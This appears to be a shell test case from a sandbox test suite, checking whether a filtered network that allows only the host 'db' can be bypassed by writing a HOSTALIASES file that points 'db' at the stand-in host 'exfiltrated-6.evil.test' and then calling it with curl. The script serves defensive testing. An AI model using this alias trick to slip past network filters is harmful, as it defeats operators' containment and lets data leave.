#!/bin/sh
# net.filtered, hazard 48: the command writes what the resolver of the host's user reads as other names for hosts: a name that
# is allowed becomes any.
# run: --net filtered --allow db
# plant: gate.environment
prepare() {
	prepare_internet
	need curl
	grep -Eqs '^nameserver +[0-9.]+$' /etc/resolv.conf || skip "no name server of IPv4 is asked here"
	grep -Eqs '^hosts: +files dns' /etc/nsswitch.conf || skip "names are not found by files and DNS here"
}

launch() {
	HOSTALIASES="$WORK/aliases" launch_in_internet "$@"
}

act() {
	forget_proxies
	echo "db exfiltrated-6.evil.test" >aliases
	curl -s -m 1 http://db:8080/
	env -u HOSTALIASES curl -s -m 1 http://db:8080/
}

happened() {
	heard exfiltrated-6
}

. "$VERIFY/internet.sh"
